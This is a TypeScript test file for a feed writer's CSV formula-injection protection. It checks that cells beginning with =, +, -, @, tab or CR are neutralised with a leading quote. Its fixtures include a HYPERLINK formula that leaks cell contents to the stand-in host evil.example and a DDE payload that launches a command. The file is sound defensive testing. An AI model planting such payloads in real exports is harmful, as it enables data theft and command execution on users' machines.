import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { FeedWriter, protectCsvLine, protectedCsvCell } from './feed-output.ts';

describe('CSV formula protection (OWASP CSV Injection)', () => {
  it('neutralises a cell beginning with = + - @ tab or CR with a leading quote, quoted, its quotes doubled', () => {
    assert.equal(protectedCsvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")'), `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    assert.equal(protectedCsvCell('@SUM(1+1)*cmd|\' /C calc\'!A0'), `"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    assert.equal(protectedCsvCell('+61-0290088888'), `"'+61-0290088888"`);
    assert.equal(protectedCsvCell('-2+3+cmd'), `"'-2+3+cmd"`);
    assert.equal(protectedCsvCell('\t=1'), `"'\t=1"`);
    assert.equal(protectedCsvCell('\r=1'), `"'\r=1"`);
  });

  it('keeps plain numbers (negative ones too), harmless text and empty cells as the plain CSV writes them', () => {
    for (const [v, cell] of [
      ['-5', '-5'],
      ['-0.25', '-0.25'],
      ['42', '42'],
      ['', ''],
      ['a=b', 'a=b'],
      ['Smith, Jones', '"Smith, Jones"'],
      [' =1', ' =1'],
      ["'=already", "'=already"],
    ]) {
      assert.equal(protectedCsvCell(v), cell, JSON.stringify(v));
    }
  });

  it('rewrites only the dangerous cells of a record and keeps every other cell byte for byte (golden lines)', () => {
    const cases: [string, string][] = [
      // A standard feed record with a formula in custom_group and custom_id, and the caller number.
      [
        ',1,call-in,17,2026-05-26 18:00:17,0,1,0,2026-05-26 18:00:00,0,0,0,0,0,0,-4,,,2026-05-26 18:00:00,Missed,1,0,Australia/Sydney,2026-05-26T18:00:17+1000,2026-05-26T18:00:00+1000,1779782417,1779782400,TT1-1779782400.000001ab,AU,Sydney,+61-0290088888,NSW,6001,@SUM(1+1),"=HYPERLINK(""http://evil.example/"",""x"")",,Target Name,+61-0289995916,0,Tracking Service Name,,+61-0289996235,0',
        `,1,call-in,17,2026-05-26 18:00:17,0,1,0,2026-05-26 18:00:00,0,0,0,0,0,0,-4,,,2026-05-26 18:00:00,Missed,1,0,Australia/Sydney,2026-05-26T18:00:17+1000,2026-05-26T18:00:00+1000,1779782417,1779782400,TT1-1779782400.000001ab,AU,Sydney,"'+61-0290088888",NSW,6001,"'@SUM(1+1)","'=HYPERLINK(""http://evil.example/"",""x"")",,Target Name,"'+61-0289995916",0,Tracking Service Name,,"'+61-0289996235",0`,
      ],
      // Quoted cells with commas and line breaks are parsed as cells; an '=' after a comma inside a cell is not a cell start.
      ['"a,=b","line\r\nbreak",=c', `"a,=b","line\r\nbreak","'=c"`],
      ['"=q"', `"'=q"`],
      ['"-1"', '"-1"'],
      ['-1,-x', `-1,"'-x"`],
      ['=a', `"'=a"`],
      [',,', ',,'],
      ['', ''],
    ];
    for (const [line, protectedLine] of cases) assert.equal(protectCsvLine(line), protectedLine, line);
  });

  it('returns a record without a dangerous cell unchanged (the same string)', () => {
    const line = '"Smith, ""Jones""",plain,0,-3,"x=1"';
    assert.equal(protectCsvLine(line), line);
  });

  it('FeedWriter writes protected CSV only when asked; JSON and XML are untouched by the option', () => {
    const rec = { a: '=1+1', b: 'ok', c: -2 } as never;
    assert.equal(new FeedWriter('csv').records([rec]), '=1+1,ok,-2\r\n');
    assert.equal(new FeedWriter('csv', '', undefined, { csvFormulaProtection: true }).records([rec]), `"'=1+1",ok,-2\r\n`);
    assert.equal(new FeedWriter('json', '', undefined, { csvFormulaProtection: true }).records([rec]), '{"a":"=1+1","b":"ok","c":-2}');
  });
});
